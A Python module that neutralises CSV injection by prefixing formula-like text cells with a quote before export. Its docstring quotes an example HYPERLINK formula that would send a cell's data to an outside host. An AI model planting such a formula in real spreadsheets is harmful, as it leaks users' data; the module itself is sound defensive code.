"""CSV files a spreadsheet can open safely: no text cell starts a formula (CSV injection, CWE-1236).

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a formula, quotes or not
(`=HYPERLINK("http://x?d="&A1,"Klik her")` in a comment would send a planner's data away). Following OWASP's advice,
such a text cell gets a leading `'`, which makes the spreadsheet show it as text. The check is made after leading
white space too (` =1+1`, `\\n@SUM(…)`), since spreadsheets trim some of it, and a cell that starts with a tab or a
carriage return is always prefixed. A text cell that is a plain number (`-5`, `-0.25`) is left as it is: a
spreadsheet reads it as that number, which runs nothing. Number, date and boolean columns are never touched.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pandas is imported by the frame functions only: `civic-ideas sql --format csv` runs without it
    import pandas as pd

__all__ = ["FORMULA_START", "neutralise", "neutralise_frame", "write_csv"]

FORMULA_START = ("=", "+", "-", "@")
_ALWAYS = ("\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def _dangerous(value: str) -> bool:
    if value.startswith(_ALWAYS):
        return True
    stripped = value.lstrip()
    return stripped.startswith(FORMULA_START) and _PLAIN_NUMBER.fullmatch(stripped) is None


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula; anything else as is."""
    if isinstance(value, str) and value and _dangerous(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are neutralised (:func:`neutralise`); other columns are kept as they are."""
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(neutralise, na_action="ignore")
    return out


def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write ``frame`` as CSV for spreadsheets: RFC 4180 (CRLF, quoted where needed), UTF-8, text cells neutralised.

    Every CSV file the project writes for people goes through here (the exports, `polis/comments.csv`, the output
    of `cluster-file`).
    """
    path = Path(path)
    neutralise_frame(frame).to_csv(path, index=False, lineterminator="\r\n", encoding="utf-8")
    return path
